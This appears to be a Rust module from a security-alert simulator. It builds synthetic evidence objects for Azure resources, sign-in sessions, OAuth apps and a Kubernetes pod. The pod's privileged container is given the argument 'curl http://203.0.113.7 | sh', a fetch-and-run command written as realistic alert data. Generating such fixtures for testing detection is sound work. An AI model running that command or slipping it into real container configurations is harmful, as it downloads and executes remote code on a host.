//! Evidence of cloud services: applications, sign-ins, Azure resources and containers.

use fastrand::Rng;
use jiff::{SignedDuration, Timestamp};

use super::{Thing, base, write};
use crate::simulator::generate::object::Object;
use crate::simulator::generate::{alert::guid, people, shorten};

pub(super) fn azure_resource(o: &mut Object<'_>, rng: &mut Rng) {
    let subscription = guid(rng);
    o.text(
        "resourceId",
        &format!("/subscriptions/{subscription}/resourceGroups/rg-prod/providers/Microsoft.Storage/storageAccounts/stprod"),
    );
    o.text("resourceName", "stprod");
    o.text("resourceType", "Microsoft.Storage/storageAccounts");
}

pub(super) fn application(o: &mut Object<'_>) {
    o.plain("appId", 20_892);
    o.text("displayName", "Microsoft SharePoint Online");
    o.plain("instanceId", 0);
    o.text("instanceName", "Microsoft SharePoint Online");
    o.plain("saasAppId", 20_892);
    o.nulls(&["stream"]);
}

pub(super) fn oauth_application(o: &mut Object<'_>, rng: &mut Rng) {
    o.text("appId", &guid(rng));
    o.text("displayName", "Contract Räumer™");
    o.text("objectId", &guid(rng));
    o.nulls(&["publisher"]);
}

pub(super) fn logon_session(o: &mut Object<'_>, rng: &mut Rng, created: Timestamp, reveal: bool) {
    o.object("account", |o| write(o, Thing::User, rng, created, reveal));
    o.text("browser", "Edge 142");
    o.nulls(&["deviceName", "protocol", "previousLogonDateTime"]);
    o.text("operatingSystem", "Windows");
    o.text("sessionId", &guid(rng));
    o.stamp("startUtcDateTime", shorten(created - SignedDuration::from_mins(rng.i64(1..600)), rng));
    o.text("userAgent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)");
}

/// A pod in its namespace in its cluster in its Azure resource: evidence within evidence within evidence.
pub(super) fn pod(o: &mut Object<'_>, rng: &mut Rng, created: Timestamp, reveal: bool) {
    o.text("name", &format!("shop-{}", people::hex(rng, 3)));
    o.object("podIp", |o| write(o, Thing::Ip, rng, created, reveal));
    o.object("labels", |o| o.text("app.kubernetes.io/name", "shop"));
    o.nulls(&["controller", "serviceAccount"]);
    o.texts::<&str>("ephemeralContainers", &[]);
    o.texts::<&str>("initContainers", &[]);
    o.objects("containers", ["shop"], |o, name| {
        base(o, "containerEvidence", rng, created, reveal);
        o.text("name", name);
        o.text("containerId", &people::hex(rng, 32));
        o.texts("command", &["/bin/sh", "-c"]);
        o.texts("args", &["curl http://203.0.113.7 | sh"]);
        o.plain("isPrivileged", true);
        o.nulls(&["image", "pod"]);
    });
    o.object("namespace", |o| {
        base(o, "kubernetesNamespaceEvidence", rng, created, reveal);
        o.text("name", "prod");
        o.object("labels", |_| {});
        o.object("cluster", |o| {
            base(o, "kubernetesClusterEvidence", rng, created, reveal);
            o.text("name", "aks-prod");
            o.text("platform", "aks");
            o.nulls(&["distribution", "version"]);
            o.object("cloudResource", |o| write(o, Thing::AzureResource, rng, created, reveal));
        });
    });
}
